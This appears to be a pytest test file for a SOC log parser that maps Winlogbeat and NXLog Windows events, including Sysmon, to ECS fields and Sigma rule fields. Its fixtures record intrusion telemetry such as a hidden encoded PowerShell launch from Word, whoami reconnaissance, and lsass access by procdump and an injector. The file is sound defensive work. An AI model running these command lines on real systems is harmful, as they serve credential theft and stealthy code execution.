"""collectors/parsers/winlog.py: Winlogbeat and NXLog JSON lines, and the Windows → ECS mapping."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson
import pytest
from sigma.pipelines.elasticsearch.windows import ecs_windows
from sigma.rule import SigmaRule

from collectors import parsers
from collectors.files import read_file
from collectors.parsers.winlog import dataset, winlog_to_ecs
from soc.errors import ParseError
from soc.events import EventNormaliser, RawRecord, file_event_id
from soc.timeutil import load_zone

NOW = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)
HCM = load_zone("Asia/Ho_Chi_Minh")

# Winlogbeat 8 (file or Logstash output), a failed network logon to a portal server.
WINLOGBEAT_4625 = {
    "@timestamp": "2026-11-22T03:00:05.1234567Z",
    "@metadata": {"beat": "winlogbeat", "type": "_doc", "version": "8.15.0"},
    "agent": {"type": "winlogbeat", "version": "8.15.0", "name": "wec01"},
    "ecs": {"version": "8.0.0"},
    "host": {"name": "wec01"},
    "log": {"level": "information"},
    "message": "An account failed to log on.\n\nSubject:\n\tSecurity ID:\t\tS-1-0-0",
    "event": {"code": "4625", "kind": "event", "provider": "Microsoft-Windows-Security-Auditing",
              "created": "2026-11-22T03:00:06.010Z", "outcome": "failure"},
    "winlog": {
        "api": "wineventlog", "channel": "Security", "event_id": "4625",
        "provider_name": "Microsoft-Windows-Security-Auditing",
        "provider_guid": "{54849625-5478-4994-a5ba-3e3b0328c30d}",
        "computer_name": "portal01.hanoi.gov.vn", "record_id": "884123",
        "keywords": ["Audit Failure"], "task": "Logon", "opcode": "Info", "version": 0,
        "process": {"pid": 668, "thread": {"id": 4120}},
        "event_data": {
            "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-",
            "SubjectLogonId": "0x0", "TargetUserSid": "S-1-0-0",
            "TargetUserName": "administrator", "TargetDomainName": "HANOI",
            "Status": "0xc000006d", "FailureReason": "%%2313", "SubStatus": "0xc000006a",
            "LogonType": "3", "LogonProcessName": "NtLmSsp ",
            "AuthenticationPackageName": "NTLM", "WorkstationName": "KALI",
            "TransmittedServices": "-", "LmPackageName": "-", "KeyLength": "0",
            "ProcessId": "0x0", "ProcessName": "-", "IpAddress": "203.0.113.7",
            "IpPort": "51234"},
    },
}

# NXLog im_msvistalog + to_json(): flat, local EventTime, EventData lifted to the top level.
NXLOG_4688 = {
    "EventTime": "2026-11-22 10:00:00", "Hostname": "PC-KT01.sotc.gov.vn",
    "Keywords": -9214364837600034816, "EventType": "AUDIT_SUCCESS", "SeverityValue": 2,
    "Severity": "INFO", "EventID": 4688, "SourceName": "Microsoft-Windows-Security-Auditing",
    "ProviderGuid": "{54849625-5478-4994-A5BA-3E3B0328C30D}", "Version": 2, "Task": 13312,
    "OpcodeValue": 0, "RecordNumber": 193117, "ProcessID": 4, "ThreadID": 7212,
    "Channel": "Security", "Message": "A new process has been created.",
    "Category": "Process Creation", "Opcode": "Info",
    "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-1104",
    "SubjectUserName": "nguyenvana", "SubjectDomainName": "SOTC", "SubjectLogonId": "0x3e2a41",
    "NewProcessId": "0x1a2c", "NewProcessName": "C:\\Windows\\System32\\cmd.exe",
    "TokenElevationType": "%%1938", "ProcessId": "0x13f0",
    "CommandLine": "cmd.exe /c whoami /all", "TargetUserSid": "S-1-0-0", "TargetUserName": "-",
    "TargetDomainName": "-", "TargetLogonId": "0x0",
    "ParentProcessName": "C:\\Windows\\explorer.exe", "MandatoryLabel": "S-1-16-8192",
    "EventReceivedTime": "2026-11-22 10:00:01", "SourceModuleName": "eventlog",
    "SourceModuleType": "im_msvistalog",
}

WINLOGBEAT_SYSMON_3 = {
    "@timestamp": "2026-11-22T02:15:30.512Z",
    "event": {"code": "3", "kind": "event", "provider": "Microsoft-Windows-Sysmon"},
    "host": {"name": "ws-tn-015"},
    "message": "Network connection detected:\nRuleName: -",
    "winlog": {
        "api": "wineventlog", "channel": "Microsoft-Windows-Sysmon/Operational",
        "computer_name": "ws-tn-015.sotn.gov.vn", "event_id": 3, "opcode": "Info",
        "process": {"pid": 3140, "thread": {"id": 4288}},
        "provider_guid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
        "provider_name": "Microsoft-Windows-Sysmon", "record_id": 50321,
        "task": "Network connection detected (rule: NetworkConnect)",
        "user": {"domain": "NT AUTHORITY", "identifier": "S-1-5-18", "name": "SYSTEM",
                 "type": "User"},
        "version": 5,
        "event_data": {
            "RuleName": "-", "UtcTime": "2026-11-22 02:15:29.871",
            "ProcessGuid": "{6f1d2b3c-1a2b-6740-5a01-000000000a00}", "ProcessId": "7788",
            "Image": "C:\\Users\\tranthib\\AppData\\Local\\Temp\\upd.exe",
            "User": "SOTN\\tranthib", "Protocol": "tcp", "Initiated": "true",
            "SourceIsIpv6": "false", "SourceIp": "10.45.101.23",
            "SourceHostname": "ws-tn-015.sotn.gov.vn", "SourcePort": "49852",
            "SourcePortName": "-", "DestinationIsIpv6": "false",
            "DestinationIp": "198.51.100.20", "DestinationHostname": "-",
            "DestinationPort": "443", "DestinationPortName": "https"},
    },
}


def parse(document: dict[str, Any]) -> dict[str, Any]:
    return parsers.get("winlog-json").parse(orjson.dumps(document))


def normalise(fields: dict[str, Any]) -> dict[str, Any]:
    record = RawRecord(source="log:0123456789abcdef", raw=b"{}", fields=fields, position=0,
                       keep_original=False)
    return EventNormaliser(HCM, timedelta(days=1)).normalise(record, now=NOW)


def subset(event: dict[str, Any], keys: dict[str, Any]) -> dict[str, Any]:
    return {key: event.get(key) for key in keys}


def test_winlogbeat_failed_network_logon() -> None:
    fields = parse(WINLOGBEAT_4625)
    expected = {
        "@timestamp": "2026-11-22T03:00:05.1234567Z", "winlog.channel": "Security",
        "winlog.event_id": 4625, "winlog.record_id": 884123,
        "winlog.provider_name": "Microsoft-Windows-Security-Auditing",
        "winlog.computer_name": "portal01.hanoi.gov.vn", "host.name": "portal01.hanoi.gov.vn",
        "event.code": "4625", "event.provider": "Microsoft-Windows-Security-Auditing",
        "event.dataset": "windows.security", "event.category": ["authentication"],
        "event.type": ["start"], "event.action": "logon-failed", "event.outcome": "failure",
        "user.name": "administrator", "user.domain": "HANOI", "user.id": None,
        "source.ip": "203.0.113.7", "source.port": 51234, "source.domain": "KALI",
        "winlog.logon.type": "Network", "winlog.logon.id": None,
        "winlog.event_data.LogonType": "3", "winlog.event_data.TargetUserName": "administrator",
        "winlog.event_data.IpAddress": "203.0.113.7", "winlog.event_data.SubjectUserSid":
        "S-1-0-0", "winlog.event_data.ProcessName": "-", "winlog.keywords": ["Audit Failure"],
        "winlog.task": "Logon", "winlog.process.pid": 668, "log.level": "information",
        "message": WINLOGBEAT_4625["message"], "agent.name": "wec01",
        "related.ip": ["203.0.113.7"], "related.user": ["administrator"],
        "process.executable": None, "ecs.version": None, "@metadata.beat": None,
    }
    assert subset(fields, expected) == expected
    # Every EventData field is kept, as text, under its own name.
    data = {k[len("winlog.event_data."):]: v for k, v in fields.items()
            if k.startswith("winlog.event_data.")}
    assert data == WINLOGBEAT_4625["winlog"]["event_data"]  # type: ignore[index]


def test_nxlog_process_creation_in_local_time() -> None:
    fields = parse(NXLOG_4688)
    expected = {
        "@timestamp": "2026-11-22 10:00:00", "winlog.channel": "Security",
        "winlog.event_id": 4688, "winlog.record_id": 193117, "winlog.task": "Process Creation",
        "winlog.opcode": "Info", "winlog.version": 2, "winlog.keywords": ["Audit Success"],
        "winlog.process.pid": 4, "winlog.process.thread.id": 7212,
        "winlog.provider_guid": "{54849625-5478-4994-A5BA-3E3B0328C30D}",
        "host.name": "PC-KT01.sotc.gov.vn", "event.code": "4688", "log.level": "information",
        "event.category": ["process"], "event.type": ["start"], "event.action": "created-process",
        "event.outcome": "success", "user.name": "nguyenvana", "user.domain": "SOTC",
        "user.id": "S-1-5-21-3623811015-3361044348-30300820-1104",
        "winlog.logon.id": "0x3e2a41", "process.executable": "C:\\Windows\\System32\\cmd.exe",
        "process.name": "cmd.exe", "process.pid": 0x1A2C,
        "process.command_line": "cmd.exe /c whoami /all",
        "process.parent.executable": "C:\\Windows\\explorer.exe",
        "process.parent.name": "explorer.exe", "process.parent.pid": 0x13F0,
        "message": "A new process has been created.",
        "winlog.event_data.NewProcessName": "C:\\Windows\\System32\\cmd.exe",
        "winlog.event_data.TargetLogonId": "0x0",
        # NXLog's own fields are not EventData.
        "winlog.event_data.Hostname": None, "winlog.event_data.EventReceivedTime": None,
        "winlog.event_data.Severity": None, "winlog.event_data.Category": None,
    }
    assert subset(fields, expected) == expected
    event = normalise(fields)
    # A zone-less EventTime is local time (Asia/Ho_Chi_Minh here, UTC+7).
    assert event["@timestamp"] == "2026-11-22T03:00:00.000000Z"


def test_winlogbeat_sysmon_network_connection() -> None:
    fields = parse(WINLOGBEAT_SYSMON_3)
    expected = {
        "event.dataset": "windows.sysmon", "event.code": "3", "winlog.event_id": 3,
        "event.category": ["network"], "event.type": ["start", "connection", "protocol"],
        "event.action": "Network connection", "event.outcome": None,
        "process.pid": 7788, "process.entity_id": "{6f1d2b3c-1a2b-6740-5a01-000000000a00}",
        "process.executable": "C:\\Users\\tranthib\\AppData\\Local\\Temp\\upd.exe",
        "process.name": "upd.exe", "user.name": "tranthib", "user.domain": "SOTN",
        "network.transport": "tcp", "network.direction": "egress", "network.type": "ipv4",
        "source.ip": "10.45.101.23", "source.port": 49852,
        "source.domain": "ws-tn-015.sotn.gov.vn", "destination.ip": "198.51.100.20",
        "destination.port": 443, "destination.domain": None, "rule.name": None,
        "winlog.user.identifier": "S-1-5-18", "winlog.user.name": "SYSTEM",
        "related.ip": ["10.45.101.23", "198.51.100.20"], "related.user": ["tranthib"],
        "host.name": "ws-tn-015.sotn.gov.vn", "winlog.event_data.DestinationPortName": "https",
    }
    assert subset(fields, expected) == expected


def test_through_the_file_reader_and_the_normaliser(tmp_path: Path) -> None:
    path = tmp_path / "winlog.jsonl"
    lines = [orjson.dumps(d) for d in (WINLOGBEAT_4625, NXLOG_4688, WINLOGBEAT_SYSMON_3)]
    path.write_bytes(b"\n".join([*lines, b'{"EventID": "x"}']) + b"\n")
    records = list(read_file(path, parsers.get("winlog-json"), 1 << 20))
    assert [r.error for r in records] == [None, None, None, "event id 'x' is not a number"]
    events = [normalise(r.fields or {}) | {"event.id": None} for r in records[:3]]
    assert [e["@timestamp"] for e in events] == [
        "2026-11-22T03:00:05.123456Z", "2026-11-22T03:00:00.000000Z",
        "2026-11-22T02:15:30.512000Z"]
    assert [e["event.code"] for e in events] == ["4625", "4688", "3"]
    assert all("log.original" not in e for e in events)
    assert records[0].source.startswith("log:") and records[1].position == len(lines[0]) + 1
    first = normalise(records[0].fields or {})
    assert first["event.id"] == file_event_id(
        "log:0123456789abcdef", 0, datetime(2026, 11, 22, 3, 0, 5, 123456, tzinfo=UTC))


def sigma_fields(rule: str) -> set[str]:
    """The event fields a Sigma rule reads once pySigma's ECS Windows pipeline has mapped it
    (`.caseless` is an Elasticsearch sub-field of the same value)."""
    parsed = SigmaRule.from_yaml(rule)
    ecs_windows().apply(parsed)
    found = set()
    for detection in parsed.detection.detections.values():
        for item in detection.detection_items:
            found.add(str(item.field).removesuffix(".caseless"))  # type: ignore[union-attr]
    return found


def test_the_fields_pysigma_maps_windows_rules_to_are_there() -> None:
    logon = sigma_fields("""
title: failed network logon
logsource: {product: windows, service: security}
detection:
  sel: {EventID: 4625, LogonType: 3, TargetUserName: administrator, IpAddress: 203.0.113.7,
        WorkstationName: KALI, Status: '0xc000006d'}
  condition: sel
""")
    # The security service becomes a condition on the channel.
    assert logon == {"winlog.channel", "event.code", "winlog.event_data.LogonType",
                     "winlog.event_data.TargetUserName", "source.ip", "source.domain",
                     "winlog.event_data.Status"}
    assert logon <= parse(WINLOGBEAT_4625).keys()
    network = sigma_fields("""
title: outbound connection from temp
logsource: {product: windows, category: network_connection}
detection:
  sel: {EventID: 3, Image|endswith: '\\upd.exe', DestinationIp: 198.51.100.20,
        DestinationPort: 443, SourceIp: 10.45.101.23, User|contains: tranthib}
  condition: sel
""")
    assert network <= parse(WINLOGBEAT_SYSMON_3).keys()
    process = sigma_fields("""
title: whoami
logsource: {product: windows, service: security}
detection:
  sel: {EventID: 4688, NewProcessName|endswith: '\\cmd.exe', CommandLine|contains: whoami,
        SubjectUserName: nguyenvana, SubjectUserSid|startswith: S-1-5-21}
  condition: sel
""")
    assert process <= parse(NXLOG_4688).keys()


def security(event_id: int, data: dict[str, str], **winlog: Any) -> dict[str, Any]:
    return winlog_to_ecs({"channel": "Security", "event_id": event_id, "event_data": data,
                          **winlog}, "2026-11-22T03:00:00Z")


def test_logon_and_logoff_are_about_the_target_account() -> None:
    logon = security(4624, {
        "SubjectUserName": "DC01$", "SubjectLogonId": "0x3e7", "TargetUserName": "tranthib",
        "TargetDomainName": "SOTN", "TargetUserSid": "S-1-5-21-1-2-3-1107",
        "TargetLogonId": "0x8b2f31", "LogonType": "10", "IpAddress": "::ffff:10.45.101.7",
        "IpPort": "0", "ProcessId": "0x1fc", "ProcessName": "C:\\Windows\\System32\\svchost.exe"})
    assert subset(logon, {"user.name": 0, "user.domain": 0, "user.id": 0, "source.ip": 0,
                          "source.port": 0, "winlog.logon.type": 0, "winlog.logon.id": 0,
                          "process.pid": 0, "process.name": 0, "event.action": 0,
                          "event.outcome": 0}) == {
        "user.name": "tranthib", "user.domain": "SOTN", "user.id": "S-1-5-21-1-2-3-1107",
        "source.ip": "10.45.101.7", "source.port": None, "winlog.logon.type": "RemoteInteractive",
        "winlog.logon.id": "0x8b2f31", "process.pid": 508, "process.name": "svchost.exe",
        "event.action": "logged-in", "event.outcome": "success"}
    loopback = security(4624, {"TargetUserName": "u", "IpAddress": "::1", "LogonType": "2"})
    assert loopback["source.ip"] == "::1" and loopback["winlog.logon.type"] == "Interactive"
    logoff = security(4634, {"TargetUserName": "tranthib", "TargetLogonId": "0x8b2f31"})
    assert (logoff["user.name"], logoff["event.type"], logoff["event.action"]) == (
        "tranthib", ["end"], "logged-out")


@pytest.mark.parametrize(("event_id", "data", "expected"), [
    (4648, {"SubjectUserName": "tranthib", "SubjectDomainName": "SOTN",
            "TargetUserName": "admin.sotn", "TargetDomainName": "SOTN",
            "IpAddress": "10.45.101.9", "IpPort": "445"},
     {"user.name": "tranthib", "user.target.name": "admin.sotn", "source.ip": "10.45.101.9",
      "source.port": 445, "event.action": "logged-in-explicit"}),
    (4672, {"SubjectUserName": "admin.sotn", "SubjectUserSid": "S-1-5-21-1-2-3-500",
            "SubjectLogonId": "0x8c01", "PrivilegeList": "SeDebugPrivilege"},
     {"user.name": "admin.sotn", "user.id": "S-1-5-21-1-2-3-500", "winlog.logon.id": "0x8c01",
      "event.category": ["iam"], "event.action": "logged-in-special"}),
    (4720, {"SubjectUserName": "admin.sotn", "TargetUserName": "backup2",
            "TargetDomainName": "SOTN", "TargetSid": "S-1-5-21-1-2-3-1190"},
     {"user.name": "admin.sotn", "user.target.name": "backup2",
      "user.target.id": "S-1-5-21-1-2-3-1190", "event.type": ["user", "creation"],
      "event.action": "added-user-account"}),
    (4726, {"SubjectUserName": "admin.sotn", "TargetUserName": "backup2"},
     {"user.target.name": "backup2", "event.action": "deleted-user-account"}),
    (4732, {"SubjectUserName": "admin.sotn", "MemberName": "CN=Tran\\, Thi B,OU=Users,DC=sotn",
            "MemberSid": "S-1-5-21-1-2-3-1107", "TargetUserName": "Administrators",
            "TargetDomainName": "Builtin", "TargetSid": "S-1-5-32-544"},
     {"user.name": "admin.sotn", "user.target.name": "Tran, Thi B",
      "user.target.id": "S-1-5-21-1-2-3-1107", "group.name": "Administrators",
      "group.domain": "Builtin", "group.id": "S-1-5-32-544",
      "event.action": "added-member-to-group"}),
    (4740, {"SubjectUserName": "DC01$", "TargetUserName": "tranthib",
            "TargetDomainName": "WS-TN-015", "TargetSid": "S-1-5-21-1-2-3-1107"},
     {"user.name": "DC01$", "user.target.name": "tranthib", "source.domain": "WS-TN-015",
      "user.target.domain": None, "event.action": "locked-out-user-account"}),
])
def test_account_management_names_actor_and_target(
        event_id: int, data: dict[str, str], expected: dict[str, Any]) -> None:
    assert subset(security(event_id, data), expected) == expected


def test_audit_log_cleared_reads_user_data() -> None:
    fields = winlog_to_ecs({"channel": "Security", "event_id": 1102,
                            "provider_name": "Microsoft-Windows-Eventlog",
                            "user_data": {"xml_name": "LogFileCleared",
                                          "SubjectUserSid": "S-1-5-21-1-2-3-500",
                                          "SubjectUserName": "admin.sotn",
                                          "SubjectDomainName": "SOTN",
                                          "SubjectLogonId": "0x8c01"}}, None)
    assert subset(fields, {"user.name": 0, "user.id": 0, "event.action": 0,
                           "winlog.user_data.xml_name": 0, "winlog.logon.id": 0}) == {
        "user.name": "admin.sotn", "user.id": "S-1-5-21-1-2-3-500",
        "event.action": "audit-log-cleared", "winlog.user_data.xml_name": "LogFileCleared",
        "winlog.logon.id": "0x8c01"}


def sysmon(event_id: int, data: dict[str, str]) -> dict[str, Any]:
    return winlog_to_ecs({"channel": "Microsoft-Windows-Sysmon/Operational",
                          "event_id": event_id, "event_data": data}, None)


def test_sysmon_process_creation_with_hashes() -> None:
    fields = sysmon(1, {
        "RuleName": "technique_id=T1059.001", "ProcessGuid": "{6f1d2b3c-0001}",
        "ProcessId": "6120", "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\"
        "powershell.exe", "CommandLine": "powershell -nop -w hidden -enc SQBFAFgA",
        "CurrentDirectory": "C:\\Users\\tranthib\\", "User": "SOTN\\tranthib",
        "Hashes": "SHA1=0000000000000000000000000000000000000000,MD5=7353F60B1739074EB17C5F4D"
        "DDEFE239,SHA256=DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C,"
        "IMPHASH=741776AACCFC5B71FF59832DCDCACE0F",
        "ParentProcessGuid": "{6f1d2b3c-0000}", "ParentProcessId": "5512",
        "ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "ParentCommandLine": "WINWORD.EXE /n bienban.docm", "OriginalFileName":
        "PowerShell.EXE", "Company": "Microsoft Corporation"})
    expected = {
        "event.action": "Process creation", "event.category": ["process"],
        "process.pid": 6120, "process.name": "powershell.exe",
        "process.command_line": "powershell -nop -w hidden -enc SQBFAFgA",
        "process.working_directory": "C:\\Users\\tranthib\\", "process.entity_id":
        "{6f1d2b3c-0001}", "process.parent.pid": 5512, "process.parent.name": "WINWORD.EXE",
        "process.parent.entity_id": "{6f1d2b3c-0000}",
        "process.parent.command_line": "WINWORD.EXE /n bienban.docm",
        "process.pe.original_file_name": "PowerShell.EXE",
        "process.pe.company": "Microsoft Corporation", "process.hash.sha1": None,
        "process.hash.md5": "7353f60b1739074eb17c5f4dddefe239",
        "process.hash.sha256":
            "de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c",
        "process.pe.imphash": "741776aaccfc5b71ff59832dcdcace0f",
        "related.hash": ["7353f60b1739074eb17c5f4dddefe239",
                         "de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c",
                         "741776aaccfc5b71ff59832dcdcace0f"],
        "user.name": "tranthib", "rule.name": "technique_id=T1059.001",
    }
    assert subset(fields, expected) == expected


def test_sysmon_file_create_and_dns_query() -> None:
    created = sysmon(11, {"Image": "C:\\Windows\\explorer.exe", "ProcessId": "4412",
                          "TargetFilename": "C:\\Users\\tranthib\\Downloads\\baocao.pdf.exe"})
    assert subset(created, {"file.path": 0, "file.name": 0, "file.directory": 0,
                            "event.type": 0}) == {
        "file.path": "C:\\Users\\tranthib\\Downloads\\baocao.pdf.exe",
        "file.name": "baocao.pdf.exe", "file.directory": "C:\\Users\\tranthib\\Downloads",
        "event.type": ["creation"]}
    query = sysmon(22, {"Image": "C:\\Temp\\upd.exe", "ProcessId": "7788",
                        "QueryName": "update.badcdn.example", "QueryStatus": "0",
                        "QueryResults": "type:  5 edge.badcdn.example;::ffff:198.51.100.7;"
                                        "198.51.100.8;"})
    assert subset(query, {"dns.question.name": 0, "dns.resolved_ip": 0, "related.ip": 0,
                          "network.protocol": 0, "event.action": 0}) == {
        "dns.question.name": "update.badcdn.example",
        "dns.resolved_ip": ["198.51.100.7", "198.51.100.8"],
        "related.ip": ["198.51.100.7", "198.51.100.8"], "network.protocol": "dns",
        "event.action": "DNSEvent (DNS query)"}


@pytest.mark.parametrize(("channel", "name"), [
    ("Security", "windows.security"), ("Microsoft-Windows-Sysmon/Operational", "windows.sysmon"),
    ("Microsoft-Windows-PowerShell/Operational", "windows.powershell"),
    ("Windows PowerShell", "windows.windows_powershell"), ("System", "windows.system"),
    ("Microsoft-Windows-TaskScheduler/Operational", "windows.taskscheduler"),
    ("///", "windows.unknown"),
])
def test_dataset_is_named_after_the_channel(channel: str, name: str) -> None:
    assert dataset(channel) == name


@pytest.mark.parametrize(("document", "reason"), [
    ({"Hostname": "h", "Channel": "Security", "TargetUserName": "x"},
     "no event id (winlog.event_id, event.code or EventID)"),
    ({"winlog": {"channel": "Security"}}, "no event id (winlog.event_id, event.code or EventID)"),
    ({"EventID": "46x5", "Channel": "Security"}, "event id '46x5' is not a number"),
    ({"EventID": {"a": [1, {"b": 2}]}}, "event id '{\"a\":[1,{\"b\":2}]}' is not a number"),
    ({"winlog": {"event_id": True}}, "event id 'true' is not a number"),
    ({"EventID": 70000}, "event id 70000 is out of range (0-65535)"),
    ({"EventID": 4624, "RecordNumber": "n/a"}, "record id 'n/a' is not a number"),
    ({"winlog": {"event_id": 4625, "event_data": "garbage"}},
     "winlog.event_data: expected an object, got str"),
    ({"winlog": {"event_id": 4625, "user_data": [1, 2]}},
     "winlog.user_data: expected an object, got list"),
])
def test_bad_events_are_refused_with_a_reason(document: dict[str, Any], reason: str) -> None:
    with pytest.raises(ParseError) as caught:
        parse(document)
    assert str(caught.value) == reason


def test_bad_json_is_explained_as_for_json_lines() -> None:
    with pytest.raises(ParseError, match=r"^invalid JSON: "):
        parsers.get("winlog-json").parse(b'{"EventID": 4625,')
    with pytest.raises(ParseError, match=r"^expected a JSON object, got list$"):
        parsers.get("winlog-json").parse(b"[4625]")


def test_nested_garbage_in_event_data_is_kept_as_text_and_not_enriched() -> None:
    fields = parse({"EventTime": "2026-11-22T10:00:00+07:00", "EventID": "4625",
                    "Channel": "Security", "TargetUserName": {"a": [1, {"b": 2}]},
                    "IpAddress": "not-an-ip", "IpPort": "99999", "LogonType": 3,
                    "SubjectUserSid": None, "Extra": ["x", 1]})
    assert subset(fields, {"winlog.event_data.TargetUserName": 0,
                           "winlog.event_data.IpAddress": 0, "winlog.event_data.LogonType": 0,
                           "winlog.event_data.SubjectUserSid": 0, "winlog.event_data.Extra": 0,
                           "user.name": 0, "source.ip": 0, "source.port": 0,
                           "winlog.logon.type": 0}) == {
        "winlog.event_data.TargetUserName": '{"a":[1,{"b":2}]}',
        "winlog.event_data.IpAddress": "not-an-ip", "winlog.event_data.LogonType": "3",
        "winlog.event_data.SubjectUserSid": "", "winlog.event_data.Extra": '["x",1]',
        "user.name": None, "source.ip": None, "source.port": None,
        "winlog.logon.type": "Network"}
    assert normalise(fields)["@timestamp"] == "2026-11-22T03:00:00.000000Z"


def test_registered_with_json_settings() -> None:
    parser = parsers.get("winlog-json")
    assert "winlog-json" in parsers.names()
    assert parser.timestamp_required and not parser.keep_original


# ------------------------------------------------ Sysmon: the events beyond 1, 3, 11 and 22

TEMP = "C:\\Users\\tranthib\\AppData\\Local\\Temp\\"
SHA256 = "DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C"
ACTOR = {"ProcessGuid": "{6f1d2b3c-0007}", "ProcessId": "6120", "User": "SOTN\\tranthib",
         "Image": "C:\\Windows\\System32\\rundll32.exe"}
ACTOR_FIELDS = {"process.entity_id": "{6f1d2b3c-0007}", "process.pid": 6120,
                "process.executable": "C:\\Windows\\System32\\rundll32.exe",
                "process.name": "rundll32.exe", "user.name": "tranthib", "user.domain": "SOTN"}


@pytest.mark.parametrize(("event_id", "data", "expected"), [
    (2, {**ACTOR, "TargetFilename": TEMP + "upd.exe",
         "CreationUtcTime": "2019-03-01 08:00:00.000"},
     {**ACTOR_FIELDS, "file.path": TEMP + "upd.exe", "file.name": "upd.exe",
      "file.directory": TEMP.rstrip("\\"), "file.extension": "exe", "event.category": ["file"],
      "event.type": ["change"], "event.action": "A process changed a file creation time"}),
    (5, ACTOR,
     {**ACTOR_FIELDS, "event.category": ["process"], "event.type": ["end"],
      "event.action": "Process terminated", "file.path": None}),
    (6, {"ImageLoaded": "C:\\Windows\\System32\\drivers\\gdrv.sys",
         "Hashes": f"SHA256={SHA256},IMPHASH=00000000000000000000000000000000",
         "Signed": "true", "Signature": "Giga-Byte Technology", "SignatureStatus": "Valid"},
     {"file.path": "C:\\Windows\\System32\\drivers\\gdrv.sys", "file.name": "gdrv.sys",
      "file.extension": "sys", "file.code_signature.signed": True,
      "file.code_signature.subject_name": "Giga-Byte Technology",
      "file.code_signature.status": "Valid", "file.code_signature.valid": True,
      "file.hash.sha256": SHA256.lower(), "file.pe.imphash": None, "process.hash.sha256": None,
      "process.executable": None, "event.category": ["driver"], "event.type": ["start"],
      "event.action": "Driver loaded"}),
    (7, {**ACTOR, "ImageLoaded": TEMP + "wtsapi32.dll", "FileVersion": "1.0.0.1",
         "Description": "Remote Desktop Session Host Server SDK APIs", "Product": "Windows",
         "Company": "-", "OriginalFileName": "wtsapi32.dll",
         "Hashes": f"SHA256={SHA256},IMPHASH=741776AACCFC5B71FF59832DCDCACE0F",
         "Signed": "false", "Signature": "-", "SignatureStatus": "Unavailable"},
     {**ACTOR_FIELDS, "file.path": TEMP + "wtsapi32.dll", "file.name": "wtsapi32.dll",
      "file.code_signature.signed": False, "file.code_signature.status": "Unavailable",
      "file.code_signature.subject_name": None, "file.code_signature.valid": None,
      "file.pe.file_version": "1.0.0.1",
      "file.pe.description": "Remote Desktop Session Host Server SDK APIs",
      "file.pe.product": "Windows", "file.pe.company": None,
      "file.pe.original_file_name": "wtsapi32.dll", "process.pe.original_file_name": None,
      "file.hash.sha256": SHA256.lower(), "file.pe.imphash": "741776aaccfc5b71ff59832dcdcace0f",
      "related.hash": [SHA256.lower(), "741776aaccfc5b71ff59832dcdcace0f"],
      "event.category": ["process"], "event.type": ["change"], "event.action": "Image loaded"}),
    (8, {"SourceProcessGuid": "{6f1d2b3c-0008}", "SourceProcessId": "4412",
         "SourceImage": TEMP + "inject.exe", "TargetProcessGuid": "{6f1d2b3c-0001}",
         "TargetProcessId": "668", "TargetImage": "C:\\Windows\\System32\\lsass.exe",
         "NewThreadId": "7016", "StartAddress": "0x00007FF8A1B20000", "StartFunction": "-"},
     {"process.executable": TEMP + "inject.exe", "process.name": "inject.exe",
      "process.pid": 4412, "process.entity_id": "{6f1d2b3c-0008}",
      "winlog.event_data.TargetImage": "C:\\Windows\\System32\\lsass.exe",
      "winlog.event_data.TargetProcessId": "668", "event.category": ["process"],
      "event.type": ["change"], "event.action": "CreateRemoteThread"}),
    (9, {**ACTOR, "Device": "\\Device\\HarddiskVolume2"},
     {**ACTOR_FIELDS, "file.path": "\\Device\\HarddiskVolume2", "file.name": "HarddiskVolume2",
      "file.directory": "\\Device", "file.extension": None, "event.type": ["access"],
      "event.action": "RawAccessRead"}),
    (10, {"SourceProcessGUID": "{6f1d2b3c-0010}", "SourceProcessId": "5512",
          "SourceThreadId": "5120", "SourceImage": TEMP + "procdump64.exe",
          "TargetImage": "C:\\Windows\\system32\\lsass.exe", "GrantedAccess": "0x1FFFFF",
          "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4", "SourceUser": "SOTN\\tranthib"},
     {"process.executable": TEMP + "procdump64.exe", "process.name": "procdump64.exe",
      "process.pid": 5512, "process.thread.id": 5120, "process.entity_id": "{6f1d2b3c-0010}",
      "winlog.event_data.TargetImage": "C:\\Windows\\system32\\lsass.exe",
      "winlog.event_data.GrantedAccess": "0x1FFFFF", "event.category": ["process"],
      "event.type": ["access"], "event.action": "ProcessAccess"}),
    (15, {**ACTOR, "TargetFilename": "C:\\Users\\tranthib\\Downloads\\hoadon.zip:Zone.Identifier",
          "Hash": f"SHA256={SHA256},IMPHASH=00000000000000000000000000000000",
          "Contents": "[ZoneTransfer]  ZoneId=3"},
     {**ACTOR_FIELDS, "file.path": "C:\\Users\\tranthib\\Downloads\\hoadon.zip:Zone.Identifier",
      "file.name": "hoadon.zip:Zone.Identifier", "file.extension": "Identifier",
      "file.hash.sha256": SHA256.lower(), "related.hash": [SHA256.lower()],
      "event.category": ["file"], "event.type": ["access"],
      "event.action": "FileCreateStreamHash"}),
    (17, {**ACTOR, "EventType": "CreatePipe", "PipeName": "\\PSEXESVC"},
     {**ACTOR_FIELDS, "file.name": "\\PSEXESVC", "file.path": None, "event.category": ["file"],
      "event.type": ["creation"], "event.action": "PipeEvent (Pipe Created)"}),
    (18, {**ACTOR, "EventType": "ConnectPipe", "PipeName": "\\lsadump"},
     {**ACTOR_FIELDS, "file.name": "\\lsadump", "event.type": ["access"],
      "event.action": "PipeEvent (Pipe Connected)"}),
    (19, {"EventType": "WmiFilterEvent", "Operation": "Created", "User": "SOTN\\admin.sotn",
          "EventNamespace": "\"root\\\\cimv2\"", "Name": "\"upd\"",
          "Query": "\"SELECT * FROM __InstanceModificationEvent WITHIN 60\""},
     {"user.name": "admin.sotn", "user.domain": "SOTN", "process.executable": None,
      "winlog.event_data.Operation": "Created", "event.category": ["process"],
      "event.type": ["info"], "event.action": "WmiEvent (WmiEventFilter activity detected)"}),
    (20, {"EventType": "WmiConsumerEvent", "Operation": "Created", "User": "SOTN\\admin.sotn",
